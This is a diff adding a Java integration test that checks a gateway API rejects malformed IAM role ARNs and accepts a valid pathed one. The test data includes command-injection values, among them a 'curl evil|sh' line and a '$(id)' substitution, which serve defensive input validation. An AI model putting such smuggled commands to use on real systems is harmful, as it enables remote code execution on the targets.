@@ -82,6 +82,20 @@ class GatewayApiIntegrationTests {
 				"protocol.instructions", "kmsKeyArn");
 	}
 
+	/** Issue #11, finding 5: a role ARN follows IAM's character rules, so nothing in it is shell syntax. */
+	@Test
+	void roleArnsFollowIamsRules() {
+		for (String role : new String[] { "arn:aws:iam::123456789012:role/x;curl evil|sh", "arn:aws:iam::123456789012:role/$(id)",
+				"arn:aws:iam::123456789012:role/a b", "arn:aws:iam::123456789012:role/x'y", "arn:aws:iam::123456789012:role/" }) {
+			Http.Response refused = api.post(GATEWAYS, openGateway(unique("Arn")).replace("arn:aws:iam::123456789012:role/gateway", role));
+			assertThat(refused.status()).as(role).isEqualTo(400);
+			assertThat(fields(refused)).containsExactly("roleArn");
+		}
+		String pathed = "arn:aws:iam::123456789012:role/service-role/team_a/Gateway+Role=1,x.y@z-";
+		assertThat(api.post(GATEWAYS, openGateway(unique("Arn")).replace("arn:aws:iam::123456789012:role/gateway", pathed))
+			.status()).isEqualTo(202);
+	}
+
 	@Test
 	void namesAreLimitedTo48CharactersAndRequired() {
 		assertThat(fields(api.post(GATEWAYS, openGateway("a".repeat(49))))).contains("name");
